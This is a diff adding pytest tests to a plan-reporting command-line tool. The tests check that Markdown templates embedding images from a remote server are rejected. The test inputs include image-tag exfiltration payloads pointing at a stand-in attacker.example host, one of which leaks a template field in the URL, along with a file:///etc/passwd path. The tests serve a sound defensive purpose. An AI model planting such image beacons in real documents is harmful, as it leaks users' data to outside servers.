@@ -123,3 +123,40 @@ def test_where_an_address_leads_leaves_out_what_it_carries() -> None:
     assert where_it_leads("http://[SECRET") == "an address that cannot be read"  # no traceback
     assert where_it_leads("file:///etc/passwd") == "file:…"
     assert where_it_leads("images/logo.png") == "a file beside the paper"
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        "![logo](https://attacker.example/p.png?t={{ report.plan_title|urlencode }}SECRET)",
+        "![logo]( <https://attacker.example/p.png> )",
+        "![logo][l]\n\n[l]: https://attacker.example/SECRET.png",
+        '<img src="https://attacker.example/SECRET.png">',
+    ],
+)
+def test_a_markdown_template_that_shows_an_image_from_a_server_makes_no_paper(extra: str, tmp_path: Path) -> None:
+    plan = copy_plan(FIXTURES / "board", tmp_path / "plan")
+    (plan / "templates").mkdir()
+    (plan / "templates" / "report.md.j2").write_text(
+        '{% include "shipped/report.md.j2" %}\n' + extra + "\n", encoding="utf-8"
+    )
+    result = CliRunner().invoke(
+        app, ["report", "--plan", str(plan), "--quarter", "2025-Q3", "--as-of", "2026-01-15", "--format", "md"]
+    )
+    assert result.exit_code == 1, result.output
+    assert "must not fetch anything when it is shown" in result.output
+    assert "SECRET" not in result.output
+
+
+@pytest.mark.parametrize("plan", [BUNDLED_PLAN, FIXTURES / "board", FIXTURES / "measures"])
+def test_a_markdown_template_built_on_vawgs_own_makes_its_paper(plan: Path, tmp_path: Path) -> None:
+    own = copy_plan(plan, tmp_path / "plan")
+    (own / "templates").mkdir(exist_ok=True)
+    (own / "templates" / "report.md.j2").write_text(
+        '{% include "shipped/report.md.j2" %}\n![crest](data:image/png;base64,iVBORw0KGgo=)\n'
+        "See [the council](https://www.bexley.gov.uk/) and <https://www.bexley.gov.uk/vawg>.\n",
+        encoding="utf-8",
+    )
+    args = ["report", "--plan", str(own), "--quarter", "2025-Q3", "--as-of", "2026-01-15", "--format", "md"]
+    result = CliRunner().invoke(app, [*args, "--include-restricted"])
+    assert result.exit_code == 0, result.output
